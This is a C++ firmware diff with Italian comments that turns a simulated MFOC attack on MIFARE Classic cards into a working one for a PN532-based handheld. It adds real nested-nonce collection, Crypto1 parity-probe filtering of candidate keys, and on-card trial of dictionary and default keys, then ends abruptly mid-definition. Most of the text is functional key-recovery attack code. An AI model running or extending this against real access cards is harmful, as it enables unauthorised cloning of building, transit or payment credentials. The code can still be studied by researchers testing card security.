@@ -15,6 +15,15 @@
 #include "mfcuk_types.h"
 #include "mfcuk_utils.h"
 #include "mfcuk_crypto.h"
+#include "mfcuk_crypto_prng.h"
+#include "mfcuk_crypto_parallel.h"
+#include "mfcuk_pipeline.h"
+#include "mfcuk_nonce.h"
+#include "mfcuk_crypto_recovery.h"
+#include "mfcuk_keygen.h"
+#include "mfcuk_arena.h"
+#include "mfoc_bloom.h"
+#include "mfoc_spill.h"
 #include "rfid.h"
 #include "../../lib/input/input.h"
 #include "../../core/common/virtualkeyboard.h"
@@ -51,6 +60,16 @@ extern Adafruit_SSD1306 display;
 // Configurazione globale per MFOC
 MfocConfig gMfocConfig;
 
+// Carta e settore su cui mfoc_try_key prova le chiavi candidate
+static struct {
+    CardSession* session;
+    uint8_t sector;
+    uint8_t key_type;
+    int8_t exploit_sector;      // Settore con chiave nota per il nested, -1 = nessuno
+    Crypto1EncNonce probes[MFOC_NESTED_PROBES];  // Sonde nested del settore, per ordinare le chiavi da provare
+    uint8_t num_probes;
+} mfoc_target;
+
 // Array con chiavi Mifare Classic predefinite
 uint8_t mfoc_default_keys[][6] = {
     {0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, // Chiave predefinita
@@ -99,6 +118,7 @@ void mfoc_menu() {
     
     // Imposta la configurazione predefinita
     gMfocConfig.known_key_type = KEY_A;
+    gMfocConfig.exploit_sector = -1;
     gMfocConfig.target_key_type = KEY_A;
     gMfocConfig.target_sector = 0;
     gMfocConfig.max_iterations = 1000;
@@ -815,117 +835,85 @@ void mfoc_update_progress(int progress, const char* status) {
     display.display();
 }
 
+// Chiude il dizionario delle chiavi all'uscita dall'attacco
+struct MfocDictGuard {
+    mfoc_pKeys* keys;
+    
+    explicit MfocDictGuard(mfoc_pKeys* k) : keys(k) {}
+    ~MfocDictGuard() { if (keys->dict != NULL) mfoc_dict_close(keys->dict); }
+};
+
 /**
- * Esegue l'attacco MFOC
+ * Attacco vero e proprio, a carta rilevata
+ * Tutti i buffer vengono dall'arena: le uscite anticipate non devono liberare nulla
  */
-bool mfoc_run(MfocConfig* config, MfocCard* card) {
-    // Inizializzazione esplicita del modulo NFC
-    nfc.begin();
-    if (!nfc.getFirmwareVersion()) {
-        Serial.println("[ERROR] PN532 non trovato!");
-        display.clearDisplay();
-        common::println("ERROR!", 0, 0, 1, SSD1306_WHITE);
-        common::println("PN532 non trovato", 0, 12, 1, SSD1306_WHITE);
-        display.display();
-        delay(2000);
-        return false;
-    }
-    nfc.SAMConfig(); // Configura il modulo NFC
-    Serial.println("[INFO] Modulo NFC inizializzato correttamente");
-
+static bool mfoc_run_attack(MfocConfig* config, MfocCard* card, CardSession* session, MfcukArena* arena) {
     bool success = false;
-    MfocCard localCard;
     mfoc_denonce denonce;
     mfoc_pKeys possibleKeys;
     mfoc_bKeys brokenKeys;
+    MfocDict dict;
     
-    // Se non abbiamo ricevuto una scheda, usiamo una locale
-    if (card == nullptr) {
-        card = &localCard;
-        memset(card, 0, sizeof(MfocCard));
-    }
-    
-    display.clearDisplay();
-    common::println("MFOC Attack", 0, 0, 1, SSD1306_WHITE);
-    common::println("Attendere carta...", 0, 12, 1, SSD1306_WHITE);
-    display.display();
-    
-    // Preparazione per l'attacco
-    mfoc_update_progress(0, "Inizializzazione...");
-    
-    // Attesa carta - timeout aumentato a 10 secondi
-    Serial.println("[DEBUG] Attesa della carta RFID...");
-    bool cardDetected = rfid_wait_for_tag(10000);  // 10 secondi di timeout
-    Serial.println(cardDetected ? "[DEBUG] Carta rilevata!" : "[DEBUG] Timeout attesa carta!");
-    
-    if (!cardDetected) {
-        display.clearDisplay();
-        common::println("Nessuna carta", 0, 0, 1, SSD1306_WHITE);
-        common::println("rilevata", 0, 12, 1, SSD1306_WHITE);
-        display.display();
-        delay(2000);
-        return false;
-    }
-    
-    // Inizializza le strutture dati
-    denonce.distances = (uint32_t*)malloc(DEFAULT_DIST_NR * sizeof(uint32_t));
-    denonce.num_distances = DEFAULT_DIST_NR;
+    // Inizializza le strutture dati: num_probes è il massimo, la raccolta si
+    // ferma prima appena la mediana delle distanze è stabile
+    uint32_t probes = config->num_probes ? config->num_probes : DEFAULT_PROBES_NR;
+    denonce.distances = MFCUK_ARENA_NEW(arena, uint32_t, probes);
+    if (denonce.distances == NULL) return false;
+    denonce.num_distances = probes + 1;
     denonce.tolerance = config->tolerance;
     
     possibleKeys.possibleKeys = NULL;
     possibleKeys.size = 0;
+    possibleKeys.dict = NULL;
+    MfocDictGuard dictGuard(&possibleKeys);
     
     brokenKeys.brokenKeys = NULL;
     brokenKeys.size = 0;
     
-    // Inizializzazione della scheda con la chiave nota
+    // Inizializzazione della scheda con la chiave nota: appartiene al settore
+    // di exploit indicato, altrimenti al settore target
     mfoc_update_progress(10, "Autenticazione...");
+    uint8_t known_sector = config->exploit_sector >= 0 ? config->exploit_sector : config->target_sector;
     card->sectors[config->target_sector].trailerBlock = get_block_number_by_sector(config->target_sector, 3);
+    card->sectors[known_sector].trailerBlock = get_block_number_by_sector(known_sector, 3);
     
     if (config->known_key_type == KEY_A) {
-        memcpy(card->sectors[config->target_sector].KeyA.bytes, config->known_key.bytes, MIFARE_KEY_SIZE);
-        card->sectors[config->target_sector].foundKeyA = true;
+        memcpy(card->sectors[known_sector].KeyA.bytes, config->known_key.bytes, MIFARE_KEY_SIZE);
+        card->sectors[known_sector].foundKeyA = true;
     } else {
-        memcpy(card->sectors[config->target_sector].KeyB.bytes, config->known_key.bytes, MIFARE_KEY_SIZE);
-        card->sectors[config->target_sector].foundKeyB = true;
+        memcpy(card->sectors[known_sector].KeyB.bytes, config->known_key.bytes, MIFARE_KEY_SIZE);
+        card->sectors[known_sector].foundKeyB = true;
     }
     
     // Carica chiavi da file se richiesto
     if (config->load_keys_from_file && strlen(config->keys_file) > 0) {
         mfoc_update_progress(20, "Caricamento chiavi...");
-        if (!mfoc_load_keys_from_file(config->keys_file, &possibleKeys)) {
+        if (!mfoc_load_keys_from_file(config->keys_file, &possibleKeys, &dict, arena)) {
             display.clearDisplay();
             common::println("Errore caricamento", 0, 0, 1, SSD1306_WHITE);
             common::println("file chiavi", 0, 12, 1, SSD1306_WHITE);
             display.display();
             delay(2000);
-            
-            // Libera la memoria
-            free(denonce.distances);
-            if (possibleKeys.possibleKeys != NULL) free(possibleKeys.possibleKeys);
-            if (brokenKeys.brokenKeys != NULL) free(brokenKeys.brokenKeys);
-            
             return false;
         }
     }
     
-    // Trova un settore di exploit
-    int e_sector = mfoc_find_exploit_sector(card);
+    // Trova un settore di exploit (quello scelto dal piano, se indicato)
+    int e_sector = config->exploit_sector >= 0 ? config->exploit_sector : mfoc_find_exploit_sector(card);
     if (e_sector == -1) {
         display.clearDisplay();
         common::println("Nessun settore di", 0, 0, 1, SSD1306_WHITE);
         common::println("exploit trovato", 0, 12, 1, SSD1306_WHITE);
         display.display();
         delay(2000);
-        
-        // Libera la memoria
-        free(denonce.distances);
-        if (possibleKeys.possibleKeys != NULL) free(possibleKeys.possibleKeys);
-        if (brokenKeys.brokenKeys != NULL) free(brokenKeys.brokenKeys);
-        
         return false;
     }
     
+    mfoc_target.session = session;
+    mfoc_target.sector = config->target_sector;
+    mfoc_target.key_type = config->target_key_type;
+    mfoc_target.exploit_sector = e_sector;
+    
     // Esegue l'attacco
     mfoc_update_progress(30, "Raccolta nonce...");
     if (!mfoc_collect_nonces(card, e_sector, &denonce)) {
@@ -934,18 +922,12 @@ bool mfoc_run(MfocConfig* config, MfocCard* card) {
         common::println("nonce", 0, 12, 1, SSD1306_WHITE);
         display.display();
         delay(2000);
-        
-        // Libera la memoria
-        free(denonce.distances);
-        if (possibleKeys.possibleKeys != NULL) free(possibleKeys.possibleKeys);
-        if (brokenKeys.brokenKeys != NULL) free(brokenKeys.brokenKeys);
-        
         return false;
     }
     
     // Recupero chiave
     mfoc_update_progress(50, "Recupero chiave...");
-    if (mfoc_recover_key(card, config->target_sector, config->target_key_type, &denonce, &possibleKeys)) {
+    if (mfoc_recover_key(card, config->target_sector, config->target_key_type, &denonce, &possibleKeys, arena)) {
         // Chiave trovata con successo
         char keyHex[MIFARE_KEY_SIZE * 2 + 1];
         uint8_t* foundKey = (config->target_key_type == KEY_A) ? 
@@ -993,71 +975,119 @@ bool mfoc_run(MfocConfig* config, MfocCard* card) {
         delay(2000);
     }
     
-    // Libera la memoria
-    free(denonce.distances);
-    if (possibleKeys.possibleKeys != NULL) free(possibleKeys.possibleKeys);
-    if (brokenKeys.brokenKeys != NULL) free(brokenKeys.brokenKeys);
+    return success;
+}
+
+/**
+ * Esegue l'attacco MFOC
+ * Con una sessione già aperta (dump completo) lettore e carta sono pronti:
+ * niente inizializzazione del PN532 né attesa della carta
+ */
+bool mfoc_run(MfocConfig* config, MfocCard* card, CardSession* session) {
+    bool success = false;
+    MfocCard localCard;
+    CardSession localSession;
+    bool ownSession = (session == nullptr);
+    
+    // Se non abbiamo ricevuto una scheda, usiamo una locale
+    if (card == nullptr) {
+        card = &localCard;
+        memset(card, 0, sizeof(MfocCard));
+    }
+    
+    if (ownSession) {
+        if (!rfid_reader_init()) {
+            display.clearDisplay();
+            common::println("ERROR!", 0, 0, 1, SSD1306_WHITE);
+            common::println("PN532 non trovato", 0, 12, 1, SSD1306_WHITE);
+            display.display();
+            delay(2000);
+            return false;
+        }
+        
+        display.clearDisplay();
+        common::println("MFOC Attack", 0, 0, 1, SSD1306_WHITE);
+        common::println("Attendere carta...", 0, 12, 1, SSD1306_WHITE);
+        display.display();
+        
+        // Preparazione per l'attacco
+        mfoc_update_progress(0, "Inizializzazione...");
+        
+        // Attesa carta - timeout aumentato a 10 secondi
+        Serial.println("[DEBUG] Attesa della carta RFID...");
+        bool cardDetected = rfid_session_open(&localSession, 10000);  // 10 secondi di timeout
+        Serial.println(cardDetected ? "[DEBUG] Carta rilevata!" : "[DEBUG] Timeout attesa carta!");
+        
+        if (!cardDetected) {
+            display.clearDisplay();
+            common::println("Nessuna carta", 0, 0, 1, SSD1306_WHITE);
+            common::println("rilevata", 0, 12, 1, SSD1306_WHITE);
+            display.display();
+            delay(2000);
+            return false;
+        }
+        session = &localSession;
+        if (card->uid == 0) card->uid = rfid_session_uid32(session);
+        if (card->num_sectors == 0) card->num_sectors = session->num_sectors;
+    }
+    
+    // Tutta la memoria dell'attacco viene da un'unica arena, rilasciata qui
+    MfcukArena arena;
+    if (!mfcuk_arena_init_heap(&arena, MFOC_ARENA_MIN, MFOC_ARENA_MAX)) {
+        Serial.println("[MFOC] Memoria insufficiente per l'attacco");
+        display.clearDisplay();
+        common::println("Memoria", 0, 0, 1, SSD1306_WHITE);
+        common::println("insufficiente", 0, 12, 1, SSD1306_WHITE);
+        display.display();
+        delay(2000);
+        if (ownSession) rfid_session_close(session);
+        return false;
+    }
+    Serial.printf("[MFOC] Memoria attacco: %u byte (picco massimo)\n", (unsigned)arena.capacity);
+    
+    success = mfoc_run_attack(config, card, session, &arena);
+    mfoc_target.session = NULL;
+    mfoc_target.exploit_sector = -1;
+    
+    mfcuk_arena_report(&arena, "MFOC");
+    mfcuk_arena_free(&arena);
+    
+    if (ownSession) {
+        rfid_session_report(session);
+        rfid_session_close(session);
+    }
     
     return success;
 }
 
 /**
  * Trova un settore di exploit (settore con almeno una chiave conosciuta)
+ * Il dump completo sceglie invece il più veloce con mfoc_plan_build
  * @return L'indice del settore di exploit, o -1 se non trovato
  */
 int mfoc_find_exploit_sector(MfocCard* card) {
-    // In questa simulazione, utilizziamo il settore con la chiave già nota
-    return 0; // Per ora ritorniamo il settore 0, in una implementazione reale andrebbe calcolato
+    for (uint8_t sector = 0; sector < card->num_sectors; sector++) {
+        if (card->sectors[sector].foundKeyA || card->sectors[sector].foundKeyB) return sector;
+    }
+    return -1;
 }
 
 /**
- * Carica le chiavi da un file
+ * Apre il file delle chiavi come dizionario compilato
+ * Un file di testo viene importato una volta in un .mkd accanto all'originale;
+ * le chiavi restano su LittleFS e vengono lette a blocchi durante il recupero
  */
-bool mfoc_load_keys_from_file(const char* filename, mfoc_pKeys* keys) {
-    File file = LittleFS.open(filename, "r");
-    if (!file) {
+bool mfoc_load_keys_from_file(const char* filename, mfoc_pKeys* keys, MfocDict* dict, MfcukArena* arena) {
+    if (!mfoc_dict_load(dict, filename, arena)) {
         Serial.println("Errore apertura file delle chiavi");
         return false;
     }
+    Serial.printf("[MFOC] Dizionario %s: %u chiavi, %u frequenti\n", dict->path,
+                  (unsigned)dict->hdr.count, (unsigned)dict->hdr.num_hot);
     
-    // Conta le linee
-    int numLines = 0;
-    while (file.available()) {
-        String line = file.readStringUntil('\n');
-        if (line.length() >= 12) { // 12 caratteri HEX per una chiave a 6 byte
-            numLines++;
-        }
-    }
-    
-    // Resetta il file
-    file.seek(0);
-    
-    // Alloca memoria per le chiavi
-    keys->size = numLines;
-    keys->possibleKeys = (uint64_t*)malloc(numLines * sizeof(uint64_t));
-    if (keys->possibleKeys == NULL) {
-        file.close();
-        return false;
-    }
-    
-    // Legge le chiavi
-    int i = 0;
-    while (file.available() && i < numLines) {
-        String line = file.readStringUntil('\n');
-        if (line.length() >= 12) { // 12 caratteri HEX per una chiave a 6 byte
-            // Converti da HEX a uint64_t
-            char keyStr[13];
-            strncpy(keyStr, line.c_str(), 12);
-            keyStr[12] = '\0';
-            
-            uint8_t keyBytes[6];
-            hex_to_bytes(keyStr, keyBytes, 6);
-            
-            keys->possibleKeys[i++] = bytes_to_num(keyBytes, 6);
-        }
-    }
-    
-    file.close();
+    keys->possibleKeys = NULL;
+    keys->size = dict->hdr.count;
+    keys->dict = dict;
     return true;
 }
 
@@ -1086,64 +1116,140 @@ void num_to_bytes(uint64_t n, uint32_t len, uint8_t* dest) {
     }
 }
 
+// Acquisizioni fallite di fila prima di considerare persa la carta
+#define MFOC_COLLECT_MAX_MISSES  8
+
+// Stato condiviso dai task della pipeline di raccolta
+typedef struct {
+    AttackPipeline* pipe;
+    uint8_t sector;
+    uint8_t block;              // Trailer del settore di exploit
+    uint8_t key_type;
+    uint64_t key;               // Chiave nota del settore di exploit
+    uint32_t uid;               // UID dell'autenticazione
+    uint32_t total;             // Nonce da raccogliere
+    // Produttore (core radio)
+    NonceAcq* acq;
+    uint32_t misses;            // Acquisizioni fallite di fila
+    volatile uint32_t produced;
+    // Consumatore (core di calcolo)
+    NonceDistanceTracker tracker;
+} MfocCollectCtx;
+
 /**
- * Raccoglie nonce per l'attacco
- * Simulazione - in un'implementazione reale, questa funzione comunicherebbe con la carta
+ * Produttore: autenticazione con la chiave nota e nested sullo stesso
+ * settore; {nt} viene decifrato dal consumatore
  */
-bool mfoc_collect_nonces(MfocCard* card, uint8_t sector, mfoc_denonce* d) {
-    uint32_t last_nonce = 0;
+static bool mfoc_collect_produce(void* ctx, NonceRecord* rec) {
+    MfocCollectCtx* c = (MfocCollectCtx*)ctx;
+    NonceNested n;
+    int r;
     
-    for (int i = 0; i < d->num_distances; i++) {
-        // Simulazione di generazione di nonce
-        uint32_t new_nonce;
-        if (i == 0) {
-            new_nonce = random(0xFFFFFFFF);
-        } else {
-            // Genera una distanza plausibile
-            new_nonce = last_nonce + random(100, 10000);
-        }
-        
-        // Controllo per interruzione utente
-        if (digitalRead(buttonPin_RST) == LOW) {
-            return false;
-        }
-        
-        // Aggiorna lo stato
-        char status[32];
-        sprintf(status, "Nonce %d di %d...", i+1, (int)d->num_distances);
-        mfoc_update_progress(30 + (i * 20 / d->num_distances), status);
-        
-        // Memorizza il nonce
-        if (i > 0) {
-            d->distances[i-1] = new_nonce - last_nonce;
-        }
-        
-        last_nonce = new_nonce;
-        delay(50); // Simulazione di comunicazione con la carta
+    if (c->produced >= c->total) return false;
+    
+    while ((r = nonce_nested(c->acq, c->key, c->block, c->key_type, c->block, c->key_type, false, &n)) != 1) {
+        // Chiave nota rifiutata: inutile insistere
+        if (r == 0) return false;
+        if (++c->misses >= MFOC_COLLECT_MAX_MISSES || mfcuk_pipeline_stopping(c->pipe)) return false;
     }
+    c->misses = 0;
     
-    // Calcola la mediana delle distanze
-    d->median = mfoc_median(d);
+    memset(rec, 0, sizeof(*rec));
+    rec->nt = n.nt;
+    rec->nt_enc = n.nt_enc;
+    rec->par = n.par;
+    rec->time_ms = millis();
+    rec->sector = c->sector;
+    rec->key_type = c->key_type;
     
+    c->produced++;
     return true;
 }
 
 /**
- * Calcola la mediana delle distanze tra nonce
+ * Consumatore: decifra {nt} e aggiunge la distanza tra i due nonce della
+ * coppia; qui non ci sono candidati, conta solo la convergenza
  */
-uint32_t mfoc_median(mfoc_denonce* d) {
-    // Ordina le distanze
-    qsort(d->distances, d->num_distances - 1, sizeof(uint32_t), mfoc_compare_keys);
-    
-    // Calcola la mediana
-    int middle = (int)(d->num_distances - 1) / 2;
-    if ((d->num_distances - 1) % 2 == 1) {
-        // Numero dispari di elementi
-        return d->distances[middle];
-    } else {
-        // Numero pari di elementi, restituisce il valore inferiore
-        return (uint32_t)(d->distances[middle]);
+static uint32_t mfoc_collect_consume(void* ctx, const NonceRecord* rec) {
+    MfocCollectCtx* c = (MfocCollectCtx*)ctx;
+    
+    if (mfcuk_distance_add_pair(&c->tracker, rec->nt, nonce_decrypt_nt(c->key, c->uid, rec->nt_enc))) return 0;
+    return MFCUK_PIPELINE_OPEN;
+}
+
+/**
+ * Task chiamante: stato sul display e interruzione utente
+ */
+static void mfoc_collect_idle(void* ctx) {
+    MfocCollectCtx* c = (MfocCollectCtx*)ctx;
+    uint32_t produced = c->produced;
+    char status[32];
+    
+    // Controllo per interruzione utente
+    if (digitalRead(buttonPin_RST) == LOW) {
+        mfcuk_pipeline_cancel(c->pipe);
+        return;
     }
+    
+    // Aggiorna lo stato
+    sprintf(status, "Nonce %d di %d...", (int)produced, (int)c->total);
+    mfoc_update_progress(30 + (produced * 20 / c->total), status);
+}
+
+/**
+ * Raccoglie nonce per l'attacco
+ * Ogni nonce è una coppia nt / {nt} nested sul settore di exploit, acquisita
+ * a frame grezzi sulla carta della sessione dell'attacco; acquisizione e
+ * calcolo delle distanze girano in pipeline su core diversi e la raccolta
+ * termina prima se le distanze convergono entro la tolleranza
+ */
+bool mfoc_collect_nonces(MfocCard* card, uint8_t sector, mfoc_denonce* d) {
+    AttackPipeline pipe;
+    MfocCollectCtx ctx;
+    NonceAcq acq;
+    CardSession* session = mfoc_target.session;
+    bool has_a = card->sectors[sector].foundKeyA;
+    
+    if (d->num_distances < 2) return false;
+    if (!has_a && !card->sectors[sector].foundKeyB) return false;
+    if (session == NULL || !nonce_pn532_begin(&acq, session)) {
+        Serial.println("[MFOC] Nessuna carta pronta per l'acquisizione dei nonce");
+        return false;
+    }
+    
+    memset(&ctx, 0, sizeof(ctx));
+    ctx.pipe = &pipe;
+    ctx.sector = sector;
+    ctx.block = get_block_number_by_sector(sector, 3);
+    ctx.key_type = has_a ? KEY_A : KEY_B;
+    ctx.key = bytes_to_num(has_a ? card->sectors[sector].KeyA.bytes : card->sectors[sector].KeyB.bytes, MIFARE_KEY_SIZE);
+    ctx.uid = acq.uid32;
+    ctx.acq = &acq;
+    ctx.total = d->num_distances - 1;
+    mfcuk_distance_init(&ctx.tracker, d->distances, d->num_distances - 1, d->tolerance, MFOC_DISTANCE_MIN);
+    
+    mfcuk_pipeline_init(&pipe, mfoc_collect_produce, mfoc_collect_consume, mfoc_collect_idle, &ctx, 0);
+    mfcuk_pipeline_run(&pipe);
+    
+    nonce_pn532_end(session);
+    nonce_acq_report(&acq, pipe.stats.elapsed_ms);
+    
+    if (pipe.stats.cancelled || ctx.tracker.count == 0) {
+        return false;
+    }
+    
+    // Con la convergenza anticipata le distanze raccolte possono essere meno;
+    // mediana e tolleranza vengono dalle statistiche in linea del consumatore
+    mfcuk_distance_finish(&ctx.tracker);
+    d->num_distances = ctx.tracker.count + 1;
+    d->median = ctx.tracker.median;
+    d->tolerance = ctx.tracker.tolerance;
+    
+    Serial.printf("[MFOC] Distanze: %u raccolte su %u, mediana %u, MAD %u, tolleranza %u, %u scartate\n",
+                  (unsigned)ctx.tracker.count, (unsigned)ctx.total, (unsigned)d->median,
+                  (unsigned)ctx.tracker.stats.mad, (unsigned)d->tolerance, (unsigned)ctx.tracker.outliers);
+    
+    return true;
 }
 
 /**
@@ -1158,93 +1264,556 @@ int mfoc_compare_keys(const void* a, const void* b) {
 }
 
 /**
- * Recupera la chiave basandosi sulle distanze dei nonce e sulle chiavi possibili
- * Simulazione - in un'implementazione reale, questa funzione utilizzerebbe l'algoritmo di crypto1
+ * Prova una chiave candidata sulla carta, autenticando il settore bersaglio
+ * nella sessione dell'attacco
+ * @return 1 se la chiave è corretta, 0 se no, -1 se interrotto dall'utente o carta persa
  */
-bool mfoc_recover_key(MfocCard* card, uint8_t sector, uint8_t key_type, mfoc_denonce* d, mfoc_pKeys* pk) {
-    // Simula il recupero della chiave
-    uint8_t foundKey[6];
-    bool success = false;
+static int mfoc_try_key(uint64_t key, uint8_t* foundKey) {
+    num_to_bytes(key, 6, foundKey);
     
-    // Simuliamo un tentativo con le chiavi predefinite
-    for (int i = 0; i < mfoc_default_keys_count; i++) {
-        mfoc_update_progress(50 + (i * 40 / mfoc_default_keys_count), "Prova chiavi...");
-        
-        // Simulazione di tentativo con la chiave
-        memcpy(foundKey, mfoc_default_keys[i], 6);
+    // Controllo per interruzione utente
+    if (digitalRead(buttonPin_RST) == LOW) {
+        return -1;
+    }
+    if (mfoc_target.session == NULL) {
+        return -1;
+    }
+    return rfid_session_auth(mfoc_target.session, mfoc_target.sector, mfoc_target.key_type, foundKey);
+}
+
+// Chiavi compatibili con le sonde nested del bersaglio
+typedef struct {
+    uint64_t* keys;             // Ordinate; NULL = nessun filtro, tutte compatibili
+    uint32_t count;
+} MfocProbeMatches;
+
+/**
+ * Verifica sui due core le parità di {nt} delle sonde nested del bersaglio:
+ * la chiave giusta le supera sempre, una sbagliata con probabilità 1/8 per
+ * sonda. Senza sonde o senza memoria nessun filtro
+ * @return 0, -1 se interrotto dall'utente
+ */
+static int mfoc_probe_filter(const uint64_t* keys, uint32_t n, MfcukArena* arena, MfocProbeMatches* m) {
+    Crypto1ParallelStats stats;
+    
+    m->keys = NULL;
+    m->count = 0;
+    if (mfoc_target.num_probes == 0 || n == 0) return 0;
+    
+    m->keys = MFCUK_ARENA_NEW(arena, uint64_t, n);
+    if (m->keys == NULL) return 0;
+    
+    m->count = crypto1_parallel_test_nonces(mfoc_target.probes, mfoc_target.num_probes, keys, n, m->keys, n, false,
+                                            mfcuk_idle_rst, NULL, &stats);
+    if (stats.cancelled) return -1;
+    m->count = crypto1_keys_sort_unique(m->keys, m->count);
+    return 0;
+}
+
+static bool mfoc_probe_compatible(const MfocProbeMatches* m, uint64_t key) {
+    uint32_t lo = 0, hi = m->count;
+    
+    if (m->keys == NULL) return true;
+    while (lo < hi) {
+        uint32_t mid = (lo + hi) / 2;
         
-        // Simula l'autenticazione
-        if (random(100) < 10) { // 10% di probabilità di successo (solo per demo)
-            success = true;
-            break;
+        if (m->keys[mid] < key) {
+            lo = mid + 1;
+        } else {
+            hi = mid;
         }
+    }
+    return lo < m->count && m->keys[lo] == key;
+}
+
+/**
+ * Prova le chiavi nell'ordine dato, con la barra di progresso tra from e
+ * from+span: prima quelle compatibili con le sonde nested, poi le altre
+ * (una sonda con parità corrotte non deve far perdere la chiave)
+ */
+static int mfoc_try_order(const mfoc_countKeys* order, uint32_t num_order, int from, int span, MfcukArena* arena,
+                          uint8_t* foundKey) {
+    MfcukArenaScope scope(arena);
+    uint64_t* keys = MFCUK_ARENA_NEW(arena, uint64_t, num_order);
+    MfocProbeMatches m = {NULL, 0};
+    uint32_t tried = 0;
+    
+    if (keys != NULL) {
+        for (uint32_t i = 0; i < num_order; i++) keys[i] = order[i].key;
+        if (mfoc_probe_filter(keys, num_order, arena, &m) < 0) return -1;
+    }
+    if (m.keys != NULL) {
+        Serial.printf("[MFOC] Filtro sonde: %u chiavi su %u compatibili\n", (unsigned)m.count, (unsigned)num_order);
+    }
+    
+    for (int pass = 0; pass < 2; pass++) {
+        for (uint32_t i = 0; i < num_order; i++) {
+            if (mfoc_probe_compatible(&m, order[i].key) != (pass == 0)) continue;
+            mfoc_update_progress(from + (tried++ * span / num_order), "Prova chiavi...");
+            
+            int result = mfoc_try_key(order[i].key, foundKey);
+            if (result != 0) return result;
+        }
+    }
+    return 0;
+}
+
+/**
+ * Chiavi in RAM: una run per sorgente, quelle presenti in più run vengono provate per prime
+ */
+static int mfoc_try_ram_keys(mfoc_pKeys* pk, MfcukArena* arena, uint8_t* foundKey) {
+    MfocCandidates* candidates;
+    mfoc_countKeys* order;
+    uint32_t total = pk->size + mfoc_default_keys_count;
+    uint32_t num_order;
+    
+    candidates = MFCUK_ARENA_NEW(arena, MfocCandidates, 1);
+    order = MFCUK_ARENA_NEW(arena, mfoc_countKeys, total);
+    if (candidates == NULL || order == NULL || !mfoc_candidates_init_arena(candidates, arena, total)) {
+        Serial.println("Errore allocazione memoria");
+        return -1;
+    }
+    
+    if (pk->size > 0) {
+        mfoc_candidates_begin_run(candidates);
+        mfoc_candidates_add(candidates, pk->possibleKeys, pk->size);
+        mfoc_candidates_end_run(candidates);
+    }
+    
+    mfoc_candidates_begin_run(candidates);
+    for (int i = 0; i < mfoc_default_keys_count; i++) {
+        uint64_t key = bytes_to_num(mfoc_default_keys[i], 6);
+        mfoc_candidates_add(candidates, &key, 1);
+    }
+    mfoc_candidates_end_run(candidates);
+    
+    num_order = mfoc_candidates_top(candidates, order, total, 1);
+    return mfoc_try_order(order, num_order, 50, 40, arena, foundKey);
+}
+
+static int mfoc_compare_count_keys(const void* a, const void* b) {
+    uint64_t ka = ((const mfoc_countKeys*)a)->key;
+    uint64_t kb = ((const mfoc_countKeys*)b)->key;
+    return ka < kb ? -1 : (ka > kb ? 1 : 0);
+}
+
+/**
+ * Dizionario su LittleFS: prima le chiavi che hanno già funzionato e quelle
+ * predefinite, poi tutte le altre lette a blocchi dalla flash. Con le sonde
+ * nested il dizionario si legge due volte: prima si provano le chiavi
+ * compatibili, poi le altre
+ */
+static int mfoc_try_dict_keys(mfoc_pKeys* pk, MfcukArena* arena, uint8_t* foundKey) {
+    MfocDict* dict = pk->dict;
+    uint32_t max_first = MFOC_DICT_HOT_CAP + mfoc_default_keys_count;
+    uint32_t num_order, n, compatible = 0;
+    int passes = mfoc_target.num_probes > 0 ? 2 : 1;
+    mfoc_countKeys* order;
+    uint64_t* block;
+    uint64_t key;
+    int result;
+    
+    order = MFCUK_ARENA_NEW(arena, mfoc_countKeys, max_first);
+    block = MFCUK_ARENA_NEW(arena, uint64_t, MFOC_DICT_FILTER_BLOCK);
+    if (order == NULL || block == NULL) {
+        Serial.println("Errore allocazione memoria");
+        return -1;
+    }
+    
+    num_order = mfoc_dict_hot(dict, order, MFOC_DICT_HOT_CAP);
+    for (int i = 0; i < mfoc_default_keys_count; i++) {
+        uint32_t j;
         
-        delay(50); // Simulazione di comunicazione con la carta
-        
-        // Controllo per interruzione utente
-        if (digitalRead(buttonPin_RST) == LOW) {
-            return false;
+        key = bytes_to_num(mfoc_default_keys[i], 6);
+        for (j = 0; j < num_order && order[j].key != key; j++);
+        if (j == num_order) {
+            order[num_order].key = key;
+            order[num_order++].count = 0;
         }
     }
+    result = mfoc_try_order(order, num_order, 50, 10, arena, foundKey);
+    if (result != 0) return result;
     
-    // Se abbiamo trovato la chiave, salviamola nella struttura della carta
-    if (success) {
-        if (key_type == KEY_A) {
-            memcpy(card->sectors[sector].KeyA.bytes, foundKey, MIFARE_KEY_SIZE);
-            card->sectors[sector].foundKeyA = true;
-        } else {
-            memcpy(card->sectors[sector].KeyB.bytes, foundKey, MIFARE_KEY_SIZE);
-            card->sectors[sector].foundKeyB = true;
+    // Le chiavi già provate vengono saltate durante la lettura
+    qsort(order, num_order, sizeof(mfoc_countKeys), mfoc_compare_count_keys);
+    for (int pass = 0; pass < passes; pass++) {
+        mfoc_dict_rewind(dict);
+        do {
+            MfcukArenaScope scope(arena);
+            MfocProbeMatches m;
+            
+            for (n = 0; n < MFOC_DICT_FILTER_BLOCK && mfoc_dict_next(dict, &key);) {
+                mfoc_countKeys probe = {key, 0};
+                
+                if (bsearch(&probe, order, num_order, sizeof(mfoc_countKeys), mfoc_compare_count_keys) == NULL) {
+                    block[n++] = key;
+                }
+            }
+            if (n == 0) break;
+            mfoc_update_progress(60 + (pass * dict->hdr.count + dict->pos) * 30 / (passes * dict->hdr.count),
+                                 "Prova chiavi (flash)...");
+            if (mfoc_probe_filter(block, n, arena, &m) < 0) return -1;
+            if (pass == 0) compatible += m.keys != NULL ? m.count : n;
+            
+            for (uint32_t i = 0; i < n; i++) {
+                if (mfoc_probe_compatible(&m, block[i]) != (pass == 0)) continue;
+                result = mfoc_try_key(block[i], foundKey);
+                if (result != 0) return result;
+            }
+        } while (n == MFOC_DICT_FILTER_BLOCK);
+        
+        if (dict->pos < dict->hdr.count) {
+            Serial.println("[MFOC] Errore di lettura del dizionario");
+            return -1;
+        }
+        if (pass == 0 && passes > 1) {
+            Serial.printf("[MFOC] Filtro sonde: %u chiavi del dizionario su %u compatibili, nessuna corretta\n",
+                          (unsigned)compatible, (unsigned)dict->hdr.count);
         }
     }
+    return 0;
+}
+
+/**
+ * Verifica sulla carta di una chiave che ha superato le altre sonde nested
+ */
+static int mfoc_nested_verify(void* ctx, uint64_t key) {
+    return mfoc_try_key(key, (uint8_t*)ctx);
+}
+
+typedef struct {
+    const NonceNested* probe;   // Sonda da cui è costruito il filtro
+    uint32_t uid;
+    uint32_t lo;
+    uint32_t hi;
+    MfocCandidates* candidates;
